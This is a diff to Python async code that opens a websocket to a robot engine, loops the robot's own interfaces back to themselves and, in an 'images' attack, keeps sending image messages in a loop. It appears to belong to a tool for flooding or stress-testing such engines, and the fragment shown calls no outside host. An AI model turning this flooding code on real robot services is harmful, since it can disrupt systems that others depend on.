@@ -58,17 +58,29 @@ async def robot(url: str, name: str = "a0") -> AsyncIterator[ClientConnection]:
         yield socket
 
 
-async def loop_back(socket: ClientConnection, message_type: str, name: str = "a0") -> None:
-    """Connect two of the robot's interfaces, so that its messages come back to it."""
+async def loop_back(socket: ClientConnection, message_type: str, out: str = "out") -> None:
+    """Connect two of the robot's interfaces, so that its messages come back to it.
+
+    Args:
+        socket: The robot's connection.
+        message_type: Of both interfaces.
+        out: Tag of the one that takes messages; those of attacks before this one are still there.
+
+    Raises:
+        ConnectionError: The engine has refused it.
+    """
+    back = f"{out}Back"
     ends = [
-        {"endpointTag": name, "interfaceTag": tag, "interfaceType": kind, "className": message_type}
-        for tag, kind in (("out", "SubscriberConverter"), ("in", "PublisherConverter"))
+        {"endpointTag": "a0", "interfaceTag": tag, "interfaceType": kind, "className": message_type}
+        for tag, kind in ((out, "SubscriberConverter"), (back, "PublisherConverter"))
     ]
     await send(socket, "CN", {"addInterfaces": ends})
-    await send(socket, "CX", {"connect": [{"tagA": f"{name}/out", "tagB": f"{name}/in"}]})
+    await send(socket, "CX", {"connect": [{"tagA": f"a0/{out}", "tagB": f"a0/{back}"}]})
     while True:
         message = json.loads(await socket.recv())
-        if message["type"] == "ST" and message["data"]["iTag"] == "in" and message["data"]["status"]:
+        if message["type"] == "ER":
+            raise ConnectionError(message["data"])
+        if message["type"] == "ST" and message["data"]["iTag"] == back and message["data"]["status"]:
             return
 
 
@@ -146,9 +158,9 @@ def images(picture: bytes) -> Attack:
 
     async def attack(url: str) -> None:
         async with robot(url) as socket:
-            await loop_back(socket, IMAGE)
+            await loop_back(socket, IMAGE, "picture")
             reading = asyncio.create_task(drain(socket))
-            text = {"iTag": "out", "type": IMAGE, "msgID": "nil", "msg*": _ID.decode()}
+            text = {"iTag": "picture", "type": IMAGE, "msgID": "nil", "msg*": _ID.decode()}
             while not reading.done():
                 await send(socket, "DM", text)
                 await push(socket, _ID + picture)
